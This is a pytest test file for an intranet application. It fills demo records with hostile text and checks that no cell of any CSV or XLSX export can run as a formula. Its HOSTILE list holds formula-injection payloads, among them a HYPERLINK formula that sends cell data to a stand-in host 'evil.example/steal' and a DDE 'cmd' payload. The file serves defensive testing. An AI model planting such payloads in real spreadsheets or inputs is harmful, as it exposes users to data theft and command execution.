"""No cell of any export can run as a formula, whatever people typed (CSV/formula injection).

The demo organisation is loaded with every plugin's demo data, then everything a
person can type and an export shows — names, positions, phones, emails, unit names,
reporting-group names, free-text answers — is replaced by hostile text. Then every
export is produced as its reader would get it and every cell is read back.
"""

from __future__ import annotations

import csv
import io
import itertools

import pytest
from openpyxl import load_workbook

from intranet.config import DEFAULT_PLUGINS
from intranet.extensions import db as _db
from intranet.people.models import Person, RoleAssignment, Unit
from intranet.spreadsheets import FORMULA_STARTS
from tests.conftest import sign_in

HOSTILE = ['=HYPERLINK("http://evil.example/steal?x="&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)", "\t=1+1", "\r=1+1"]
ALL_PLUGINS = list(DEFAULT_PLUGINS)


@pytest.fixture
def hostile(make_app, app):
    """The demo organisation with hostile text in every field a person influences; a client with every role."""
    from surveys.models import Answer, ReportingGroup

    demo_app = make_app(URA_PLUGINS=ALL_PLUGINS)
    with demo_app.app_context():
        result = demo_app.test_cli_runner().invoke(args=["demo", "load"])
        assert result.exit_code == 0, result.output
        texts = itertools.cycle(HOSTILE)
        reader = _db.session.scalar(_db.select(Person).join(Unit, Unit.head_id == Person.id).limit(1))
        for person in _db.session.scalars(_db.select(Person)):
            person.name, person.position, person.phone = next(texts), next(texts), next(texts)[:50]
            person.email = f"{next(texts)[:20]}@example.test"
        for unit in _db.session.scalars(_db.select(Unit)):
            unit.names = {language: next(texts) for language in ("sq", "sr", "en")}
        for group in _db.session.scalars(_db.select(ReportingGroup)):
            group.names = {language: next(texts) for language in ("sq", "sr", "en")}
        for answer in _db.session.scalars(_db.select(Answer).where(Answer.text.is_not(None))):
            answer.text = next(texts)
        reader.language = "en"
        held = {a.role for a in reader.role_assignments}
        reader.role_assignments += [RoleAssignment(role=r, source="admin")
                                    for r in ("admin", "hr", "communications", "cabinet") if r not in held]
        _db.session.commit()
        client = demo_app.test_client()
        sign_in(client, reader)
        yield demo_app, client


def formula_cells(cells) -> list[str]:
    return [repr(c) for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    # The stored value; a formula cell would read as its "=..." text here.
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def exported(app, client, endpoint: str, **values):
    with app.test_request_context():
        url = app.url_for(endpoint, **values)
    response = client.get(url)
    assert response.status_code == 200, f"{url}: {response.status_code}"
    return response


def test_the_directory_export_neutralises_names_positions_and_phones(hostile):
    app, _client = hostile
    result = app.test_cli_runner().invoke(args=["directory", "export"])
    assert result.exit_code == 0, result.output
    cells = csv_cells(result.output)
    assert len(cells) > 100 and "'" + HOSTILE[0] in cells
    assert formula_cells(cells) == []


def test_the_handbook_acknowledgment_xlsx_is_neutralised(hostile):
    from handbook.models import Handbook

    app, client = hostile
    slugs = _db.session.scalars(_db.select(Handbook.slug)).all()
    assert slugs
    for slug in slugs:
        cells = xlsx_cells(exported(app, client, "handbook.report_xlsx", slug=slug).data)
        assert formula_cells(cells) == []


def test_the_bulletin_acknowledgment_xlsx_is_neutralised(hostile):
    from bulletins.models import Bulletin

    app, client = hostile
    ids = _db.session.scalars(_db.select(Bulletin.id).where(Bulletin.must_read.is_(True))).all()
    assert ids
    for bulletin_id in ids:
        cells = xlsx_cells(exported(app, client, "bulletins.report_xlsx", bulletin_id=bulletin_id).data)
        assert formula_cells(cells) == []


def closed_surveys() -> list[int]:
    from surveys.models import Survey

    ids = _db.session.scalars(_db.select(Survey.id).where(Survey.status == "closed")).all()
    assert ids, "the demo has a closed survey with results"
    return ids


def test_the_survey_results_xlsx_is_neutralised(hostile):
    app, client = hostile
    for survey_id in closed_surveys():
        cells = xlsx_cells(exported(app, client, "surveys.results_xlsx", survey_id=survey_id).data)
        assert formula_cells(cells) == []


def test_the_survey_responses_csv_is_neutralised(hostile):
    app, client = hostile
    for survey_id in closed_surveys():
        cells = csv_cells(exported(app, client, "surveys.results_csv", survey_id=survey_id).get_data(as_text=True))
        assert formula_cells(cells) == []
